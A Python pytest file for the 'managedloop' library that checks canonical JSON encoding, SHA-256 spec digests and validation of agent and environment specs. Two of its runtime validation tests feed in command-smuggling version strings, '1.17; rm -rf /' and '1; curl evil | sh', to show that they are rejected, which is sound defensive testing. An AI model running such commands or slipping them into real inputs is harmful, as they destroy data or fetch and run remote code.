"""Specs, the canonical serialisation and digests (issue 10 item 1; runtimes validation,
item 5; host fields, item 6).

§9 lines covered (reference-inventory.md):

* agent/spec_test: a mapping coerces (optional fields default), a spec passes through,
  missing/unknown fields or a non-mapping are ``invalid_agent_spec``; the digest is
  independent of the name and changes with content.
* environment/spec_test: ``None`` is no environment; a mapping coerces with runtimes
  validated; a spec passes through; an invalid runtime fails the whole coercion; a
  non-mapping is ``invalid_environment_spec``; defaults; stray top-level keys fold into
  ``config``; explicit ``config`` wins; the flat ``{type, networking}`` shape populates
  ``config``; the digest is stable, excludes the name, changes with config and runtimes.
* runtime_test: via defaults to mise; ``;``/newline/empty versions, other ``via``,
  missing fields and non-mappings are refused; hyphenated versions pass; a spec built
  from a Runtime re-validates it.

Deliberately changed: the digest is the full 64-hex SHA-256 (the reference kept 8 for
agents and the uppercase hash for environments); ``digest8`` is the name suffix. A
string-keyed mapping is the only mapping form (Python has no atoms). The reference's
invalid-runtime error is ``invalid_runtime`` here (a subcode of the spec error: the
option says which field).
"""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import managedloop as ml
from managedloop.provisioning.specs import canonical_json, digest_of

WEATHER = ml.ToolDefinition(
    name="get_weather",
    description="Current weather for a city.",
    input_schema={
        "type": "object",
        "properties": {"city": {"type": "string"}},
        "required": ["city"],
    },
)
TIME = ml.ToolDefinition(
    name="get_time",
    description="Local time.",
    input_schema={"type": "object", "properties": {}},
)

# Golden values: the exact canonical bytes, and digests computed from them. A change here
# changes every host-side name users already have: only ever on purpose.
GOLDEN_AGENT = ml.AgentSpec(
    name="support_bot", system_prompt="You triage support tickets.", model="claude-sonnet-4-6"
)
GOLDEN_AGENT_BYTES = (
    b'{"kind":"agent","model":"claude-sonnet-4-6",'
    b'"system_prompt":"You triage support tickets.","v":1}'
)
GOLDEN_AGENT_DIGEST = "ec9d2e49e6d8cdd2a00fc9ec588439422707a4bc75601f2259ae7cd745e89806"
GOLDEN_RICH = ml.AgentSpec(
    name="x",
    system_prompt="Café ☕",
    tools=[WEATHER],
    model_config={"temperature": 0.1, "n": 1, "x": None},
    effort="high",
)
GOLDEN_RICH_DIGEST = "d4a1c95727612f95820ca32293b517b399ebdb0a0e7b803707a960cdc1a67ec1"
GOLDEN_ENV = {
    "type": "cloud",
    "networking": {"type": "unrestricted"},
    "runtimes": [{"lang": "python", "version": "3.12.7"}],
}
GOLDEN_ENV_BYTES = (
    b'{"config":{"networking":{"type":"unrestricted"},"type":"cloud"},"kind":"environment",'
    b'"runtimes":[{"lang":"python","version":"3.12.7","via":"mise"}],"v":1}'
)
GOLDEN_ENV_DIGEST = "cb944e918c893302259017b3056dd369ade161c5f7231b8c391dbe9890a0a58a"


def test_golden_agent_bytes_and_digest() -> None:
    assert canonical_json(GOLDEN_AGENT.identity()) == GOLDEN_AGENT_BYTES
    assert hashlib.sha256(GOLDEN_AGENT_BYTES).hexdigest() == GOLDEN_AGENT_DIGEST
    assert GOLDEN_AGENT.digest == GOLDEN_AGENT_DIGEST
    assert GOLDEN_AGENT.digest8 == "ec9d2e49"


def test_golden_rich_agent_encodes_non_ascii_floats_none_and_tools() -> None:
    raw = canonical_json(GOLDEN_RICH.identity())
    assert "Café ☕".encode() in raw  # UTF-8, literally (not \\u escapes)
    assert b'"temperature":0.1' in raw
    assert b'"n":1' in raw
    assert b'"x":null' in raw
    assert b'"tools":[{"description":"Current weather for a city.","input_schema":' in raw
    assert GOLDEN_RICH.digest == GOLDEN_RICH_DIGEST


def test_golden_environment_from_a_flat_mapping() -> None:
    env = ml.EnvironmentSpec.coerce(GOLDEN_ENV)
    assert env is not None
    assert canonical_json(env.identity()) == GOLDEN_ENV_BYTES
    assert env.digest == GOLDEN_ENV_DIGEST


def test_digests_are_the_same_in_another_process_with_another_hash_seed() -> None:
    code = (
        "import managedloop as ml, sys\n"
        "from tests.provisioning.test_specs import GOLDEN_AGENT, GOLDEN_RICH, GOLDEN_ENV\n"
        "env = ml.EnvironmentSpec.coerce(GOLDEN_ENV)\n"
        "print(GOLDEN_AGENT.digest, GOLDEN_RICH.digest, env.digest)\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        check=True,
        env={"PYTHONHASHSEED": "12345", "PATH": ""},
        cwd=str(__import__("pathlib").Path(__file__).resolve().parents[2]),
    ).stdout.split()
    assert out == [GOLDEN_AGENT_DIGEST, GOLDEN_RICH_DIGEST, GOLDEN_ENV_DIGEST]


def test_canonical_rules() -> None:
    assert canonical_json({"b": 1, "a": [1, 2.5, None, True]}) == b'{"a":[1,2.5,null,true],"b":1}'
    assert canonical_json((1, 2)) == b"[1,2]"  # tuples are lists
    assert digest_of({"x": 1}) != digest_of({"x": 1.0})  # int and float differ
    assert digest_of({"s": "é"}) != digest_of({"s": "e\u0301"})  # no Unicode normalisation
    for bad in (float("nan"), float("inf"), {1: "x"}, {"s": {1, 2}}, b"x", object()):
        with pytest.raises(ml.InvalidOptionsError) as info:
            canonical_json(bad)
        assert info.value.code == "not_canonical"


def test_agent_digest_ignores_name_labels_and_tool_order() -> None:
    base = ml.AgentSpec(name="a", system_prompt="s", tools=[WEATHER, TIME])
    same = [
        ml.AgentSpec(name="b", system_prompt="s", tools=[WEATHER, TIME]),
        ml.AgentSpec(name="a", system_prompt="s", tools=[TIME, WEATHER]),
        ml.AgentSpec(name="a", system_prompt="s", tools=[WEATHER, TIME], description="d"),
        ml.AgentSpec(name="a", system_prompt="s", tools=[WEATHER, TIME], metadata={"k": "v"}),
    ]
    assert {s.digest for s in same} == {base.digest}


@pytest.mark.parametrize(
    "change",
    [
        {"system_prompt": "other"},
        {"tools": [WEATHER]},
        {"terminal_tool": "get_time"},
        {"model": "claude-haiku-4-5"},
        {"model_config": {"temperature": 0}},
        {"effort": "low"},
        {"execution_identity": {"type": "service_account"}},
        {"timeout_seconds": 900},
    ],
)
def test_agent_digest_covers_every_identity_field(change: dict[str, Any]) -> None:
    fields: dict[str, Any] = {"name": "a", "system_prompt": "s", "tools": [WEATHER, TIME]}
    assert ml.AgentSpec(**{**fields, **change}).digest != ml.AgentSpec(**fields).digest


def test_a_default_field_is_omitted_so_new_optional_fields_keep_old_digests() -> None:
    spec = ml.AgentSpec(name="a", system_prompt="s")
    assert set(spec.identity()) == {"kind", "v", "system_prompt"}
    assert ml.AgentSpec(name="a", system_prompt="s", model_config={}).digest == spec.digest


def test_agent_spec_coercion() -> None:
    spec = ml.AgentSpec.coerce({"name": "a", "system_prompt": "s"})
    assert (spec.terminal_tool, spec.tools, spec.model_config) == (None, (), {})
    assert ml.AgentSpec.coerce(spec) is spec
    for bad in ({"name": "a", "bogus": 1}, {"name": ""}, ["a"], None, "a"):
        with pytest.raises(ml.InvalidOptionsError) as info:
            ml.AgentSpec.coerce(bad)
        assert info.value.code == "invalid_agent_spec"


@pytest.mark.parametrize(
    ("field", "bad"),
    [
        ("effort", "extreme"),
        ("execution_identity", {"type": "agent"}),
        ("execution_identity", {"type": "aws_role", "role_arn": "not-an-arn"}),
        ("timeout_seconds", 0),
        ("timeout_seconds", True),
    ],
)
def test_host_fields_are_validated(field: str, bad: Any) -> None:
    with pytest.raises(ml.InvalidOptionsError) as info:
        ml.AgentSpec(name="a", **{field: bad})
    assert info.value.context["option"] == field


def test_environment_coercion_defaults_and_folding() -> None:
    assert ml.EnvironmentSpec.coerce(None) is None
    empty = ml.EnvironmentSpec.coerce({})
    assert empty is not None
    assert (empty.name, empty.runtimes, empty.config) == (None, (), {})
    flat = ml.EnvironmentSpec.coerce(
        {"name": "n", "type": "cloud", "networking": {"type": "limited"}, "packages": {"pip": []}}
    )
    assert flat is not None
    assert flat.name == "n"
    assert flat.config == {
        "type": "cloud",
        "networking": {"type": "limited"},
        "packages": {"pip": []},
    }
    explicit = ml.EnvironmentSpec.coerce({"config": {"type": "cloud"}})
    assert explicit is not None
    assert explicit.config == {"type": "cloud"}
    clash = ml.EnvironmentSpec.coerce({"type": "stray", "config": {"type": "cloud"}})
    assert clash is not None
    assert clash.config == {"type": "cloud"}
    spec = ml.EnvironmentSpec(config={"type": "cloud"})
    assert ml.EnvironmentSpec.coerce(spec) is spec
    for bad in ("cloud", 3, ["x"], {"config": "x"}):
        with pytest.raises(ml.InvalidOptionsError) as info:
            ml.EnvironmentSpec.coerce(bad)
        assert info.value.code == "invalid_environment_spec"


def test_environment_digest_excludes_name_and_covers_config_runtimes_variables_filesystems() -> (
    None
):
    base = ml.EnvironmentSpec(name="a", config={"type": "cloud"})
    assert ml.EnvironmentSpec(name="b", config={"type": "cloud"}).digest == base.digest
    changed = [
        ml.EnvironmentSpec(config={"type": "self_hosted"}),
        ml.EnvironmentSpec(config={"type": "cloud"}, runtimes=[{"lang": "go", "version": "1.23"}]),
        ml.EnvironmentSpec(config={"type": "cloud"}, runtimes=[{"lang": "go", "version": "1.24"}]),
        ml.EnvironmentSpec(config={"type": "cloud"}, variables={"MODE": "x"}),
        ml.EnvironmentSpec(
            config={"type": "cloud"},
            filesystems=[{"s3BucketMount": {"bucket": "b", "mountPath": "/mnt/data"}}],
        ),
    ]
    digests = {e.digest for e in changed}
    assert len(digests) == len(changed)
    assert base.digest not in digests
    # A Runtime and its mapping are the same content.
    assert (
        ml.EnvironmentSpec(runtimes=[ml.Runtime(lang="go", version="1.23")]).digest
        == ml.EnvironmentSpec(runtimes=[{"lang": "go", "version": "1.23", "via": "mise"}]).digest
    )


@pytest.mark.parametrize(
    "bad",
    [
        {"lang": "elixir", "version": "1.17; rm -rf /"},
        {"lang": "elixir", "version": "1.17\n"},
        {"lang": "elixir", "version": ""},
        {"lang": "elixir", "version": "1.17", "via": "asdf"},
        {"lang": "elixir"},
        {"version": "1.17"},
        {"lang": "Elixir Lang", "version": "1.17"},
        {"lang": "elixir", "version": "1.17", "extra": 1},
        "elixir",
        None,
    ],
)
def test_an_invalid_runtime_fails_the_whole_spec(bad: Any) -> None:
    with pytest.raises(ml.InvalidOptionsError) as info:
        ml.EnvironmentSpec.coerce({"runtimes": [{"lang": "erlang", "version": "27.1"}, bad]})
    assert info.value.code == "invalid_runtime"


def test_runtime_defaults_and_revalidation() -> None:
    assert ml.Runtime.coerce({"lang": "elixir", "version": "1.20.2-otp-29"}).via == "mise"
    forged = ml.Runtime(lang="go", version="1.23")
    object.__setattr__(forged, "version", "1; curl evil | sh")
    with pytest.raises(ml.InvalidOptionsError):
        ml.EnvironmentSpec(runtimes=[forged])
    with pytest.raises(ml.InvalidOptionsError):
        ml.EnvironmentSpec(runtimes="go")  # type: ignore[arg-type]


def test_agentcore_environment_fields_are_validated_and_hidden() -> None:
    env = ml.EnvironmentSpec(variables={"API_TOKEN": "hunter2"})
    assert "hunter2" not in repr(env)
    for bad in (
        {"variables": {"1BAD": "x"}},
        {"variables": {"OK": 1}},
        {"filesystems": [{"s3BucketMount": {"bucket": "b", "mountPath": "/tmp/x"}}]},
        {"filesystems": [{"s3BucketMount": {"mountPath": "/mnt/x"}}]},
        {"filesystems": [{"nfs": {"mountPath": "/mnt/x"}}]},
        {"filesystems": [{"sessionStorage": {"mountPath": "/mnt/a"}, "efsAccessPoint": {}}]},
        {"filesystems": [{"sessionStorage": {"mountPath": f"/mnt/{i}"}} for i in range(6)]},
    ):
        with pytest.raises(ml.InvalidOptionsError) as info:
            ml.EnvironmentSpec.coerce(bad)
        assert info.value.code == "invalid_environment_spec"


_json = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=20,
)


@pytest.mark.fuzz
@given(_json)
def test_canonical_json_is_valid_sorted_json_that_round_trips(value: Any) -> None:
    raw = canonical_json(value)
    back = json.loads(raw)
    assert canonical_json(back) == raw  # a fixed point: re-encoding gives the same bytes
    assert digest_of(back) == digest_of(value)
